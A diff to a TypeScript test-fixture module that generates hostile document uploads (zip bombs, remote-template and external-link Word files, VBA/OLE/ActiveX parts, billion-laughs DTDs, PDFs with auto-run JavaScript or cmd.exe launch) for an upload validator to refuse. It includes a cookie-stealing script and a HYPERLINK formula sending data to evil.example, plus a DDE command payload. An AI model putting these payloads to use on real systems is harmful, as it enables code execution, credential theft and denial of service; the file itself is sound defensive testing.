@@ -11,13 +11,16 @@ function crc32(buf: Buffer): number {
   return ~c >>> 0;
 }
 
-/** A zip archive; `declaredSize` lets a test lie about an entry's unpacked size. */
-export function makeZip(entries: { name: string; data: Buffer; declaredSize?: number }[]): Buffer {
+/**
+ * A zip archive; `declaredSize` lets a test lie about an entry's unpacked size, and `deflated` gives the entry's
+ * compressed bytes ready-made (a bomb too large to deflate in a test).
+ */
+export function makeZip(entries: { name: string; data: Buffer; declaredSize?: number; deflated?: Buffer }[]): Buffer {
   const locals: Buffer[] = [];
   const centrals: Buffer[] = [];
   let offset = 0;
   for (const e of entries) {
-    const compressed = zlib.deflateRawSync(e.data);
+    const compressed = e.deflated ?? zlib.deflateRawSync(e.data);
     const name = Buffer.from(e.name, "utf8");
     const local = Buffer.alloc(30);
     local.writeUInt32LE(0x04034b50, 0);
@@ -132,3 +135,95 @@ export function formulaFlood(rows = 100_000): Buffer {
     { name: "xl/worksheets/sheet1.xml", data: Buffer.from(sheet) },
   ]);
 }
+
+// ---- Hostile documents of issue 15 (each generated here, never downloaded).
+
+const SETTINGS_RELS_REMOTE = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
+const rels = (inner: string) => `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;
+const docxWith = (extra: { name: string; data: Buffer | string; deflated?: Buffer; declaredSize?: number }[], types = CT_DOCX) =>
+  makeZip([{ name: "[Content_Types].xml", data: Buffer.from(types) }, { name: "word/document.xml", data: Buffer.from(DOC) }, ...extra.map((e) => ({ ...e, data: Buffer.from(e.data) }))]);
+const typesWith = (extra: string) => CT_DOCX.replace("</Types>", `${extra}</Types>`);
+
+/**
+ * Raw deflate of `mib` MiB of zeros, built from one flushed 1 MiB block repeated: about 1 KB per MiB, so a
+ * 1.1 GiB bomb is a 1 MB file that takes no time to make.
+ */
+export function zeroBomb(mib: number): Buffer {
+  const block = zlib.deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: zlib.constants.Z_SYNC_FLUSH });
+  return Buffer.concat([...Array.from({ length: mib }, () => block), Buffer.from([0x03, 0x00])]);
+}
+
+const pdf = (body: string) => Buffer.from(`%PDF-1.7\n%\xe2\xe3\xcf\xd3\n${body}\ntrailer<</Size 9/Root 1 0 R>>\nstartxref\n9\n%%EOF\n`, "latin1");
+const catalog = (extra: string) => `1 0 obj<</Type/Catalog/Pages 2 0 R${extra}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj`;
+
+/** Each hostile file with the refusal every document upload path must give. */
+export const hostileDocuments = {
+  // A 1 MB .docx whose word/document.xml claims 4 KB and inflates to 1.1 GiB.
+  docxLyingBomb: () => makeZip([
+    { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
+    { name: "word/document.xml", data: Buffer.alloc(0), deflated: zeroBomb(1126), declaredSize: 4096 },
+  ]),
+  docxRemoteTemplate: () => docxWith([{ name: "word/_rels/settings.xml.rels", data: SETTINGS_RELS_REMOTE }, { name: "word/settings.xml", data: "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>" }]),
+  // The same relationship spelled with character references and another case: an XML parser reads it as the original.
+  docxRemoteTemplateEscaped: () => docxWith([{ name: "word/_rels/settings.xml.rels", data: rels(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/&#x61;ttachedTemplate" Target="\\\\evil.example\\share\\t.dotm" TargetMode="EXTERNAL"/>`) }]),
+  // A linked picture fetched from elsewhere when the document opens (leaks the reader's address, or NTLM via file://).
+  docxExternalImage: () => docxWith([{ name: "word/_rels/document.xml.rels", data: rels(`<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://evil.example/x.png" TargetMode="External"/>`) }]),
+  // The VBA project under another part name, made code by its content type (mixed case).
+  docxVbaByContentType: () => docxWith([{ name: "word/vbaproject.bin", data: "vba" }], typesWith(`<Override PartName="/word/vbaproject.bin" ContentType="application/vnd.ms-office.vbaProject"/>`)),
+  docxVbaByDefault: () => docxWith([{ name: "word/macros/m.dat", data: "vba" }], typesWith(`<Default Extension="DAT" ContentType="application/vnd.ms-office.VBAPROJECT"/>`)),
+  docxVbaRelationship: () => docxWith([{ name: "word/_rels/document.xml.rels", data: rels(`<Relationship Id="rId5" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="code.dat"/>`) }, { name: "word/code.dat", data: "vba" }]),
+  docxActiveX: () => docxWith([{ name: "word/_rels/document.xml.rels", data: rels(`<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="ctl/c1.xml"/>`) }, { name: "word/ctl/c1.xml", data: "<ax/>" }]),
+  docxOleObject: () => docxWith([{ name: "word/embeddings/oleObject1.bin", data: "ole" }], typesWith(`<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>`)),
+  // An XML entity expansion ("billion laughs") in the content types: a DTD is refused outright.
+  docxDoctype: () => makeZip([
+    { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX.replace("<Types", `<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Types`)) },
+    { name: "word/document.xml", data: Buffer.from(DOC) },
+  ]),
+  // A plain hyperlink to a web page stays allowed (README: only plain hyperlinks may point outside).
+  docxHyperlink: () => docxWith([{ name: "word/_rels/document.xml.rels", data: rels(`<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://kjt.jl.gov.cn/" TargetMode="External"/>`) }]),
+  pdfOpenActionJs: () => pdf(catalog("/OpenAction<</S/JavaScript/JS(app.alert('x'))>>")),
+  pdfJsEscaped: () => pdf(catalog("/OpenAction 3 0 R") + "\n3 0 obj<</S/Java#53cript/J#53 4 0 R>>endobj"),
+  pdfEncryptEscaped: () => Buffer.from(pdf(catalog("")).toString("latin1").replace("/Size 9", "/Size 9/Encr#79pt 5 0 R"), "latin1"),
+  pdfLaunch: () => pdf(catalog("/OpenAction<</S/Launch/F(cmd.exe)>>")),
+  pdfEmbeddedFile: () => pdf(catalog("/Names<</Embedded#46iles 3 0 R>>")),
+  pdfRichMedia: () => pdf(catalog("") + "\n3 0 obj<</Type/Annot/Subtype/RichMedia>>endobj"),
+  // The script inside a compressed object stream (PDF 1.5), invisible to a search of the file's bytes.
+  pdfJsInObjectStream: () => {
+    const inner = Buffer.from("3 0 <</S/JavaScript/JS(app.alert(1))>>");
+    const packed = zlib.deflateSync(inner);
+    return Buffer.concat([
+      Buffer.from(`%PDF-1.7\n${catalog("/OpenAction 3 0 R")}\n5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`, "latin1"),
+      packed,
+      Buffer.from("\nendstream\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n", "latin1"),
+    ]);
+  },
+  pdfHtml: () => Buffer.from(`%PDF-1.4\n<html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>\n%%EOF\n`),
+};
+
+const memberRow = (name: string | { f: string; v: string }) => ["91220101MA00000019", name, "企业", "成员单位", "中游"];
+
+/** Hostile member-import workbooks of issue 15, each with the refusal the import must give. */
+export const hostileSheets = {
+  formulaFlood: () => formulaFlood(),
+  // The cached result of =HYPERLINK(…) used to become the member's name.
+  hyperlinkFormula: () => makeXlsx([memberRow({ f: 'HYPERLINK("https://evil.example/?x="&A2,"吉林省某某科技有限公司")', v: "吉林省某某科技有限公司" })]),
+  // DDE: text that runs a program in whoever opens an export of the list.
+  literalCmd: () => makeXlsx([memberRow("=cmd|' /C calc'!A0")]),
+  // A used range of a million rows declared in a file of a few hundred bytes.
+  hugeDimension: () => makeXlsx([memberRow("吉林省某某科技有限公司")], { dimension: "A1:L1048576" }),
+  macroEnabled: () => makeXlsx([memberRow("吉林省某某科技有限公司")], { extraParts: [{ name: "xl/vbaProject.bin", data: Buffer.from("vba"), contentType: "application/vnd.ms-office.vbaProject" }] }),
+  externalLink: () =>
+    makeXlsx([memberRow("吉林省某某科技有限公司")], {
+      extraParts: [
+        { name: "xl/externalLinks/externalLink1.xml", data: Buffer.from("<externalLink/>"), contentType: "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml" },
+        { name: "xl/externalLinks/_rels/externalLink1.xml.rels", data: Buffer.from(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil.example\\share\\book.xlsx" TargetMode="External"/></Relationships>`) },
+      ],
+    }),
+  // 1.1 GiB of zeros behind a sheet that claims 4 KB.
+  lyingBomb: () =>
+    makeZip([
+      { name: "[Content_Types].xml", data: Buffer.from(CT_XLSX()) },
+      { name: "xl/workbook.xml", data: Buffer.from(WORKBOOK) },
+      { name: "xl/worksheets/sheet1.xml", data: Buffer.alloc(0), deflated: zeroBomb(1126), declaredSize: 4096 },
+    ]),
+};
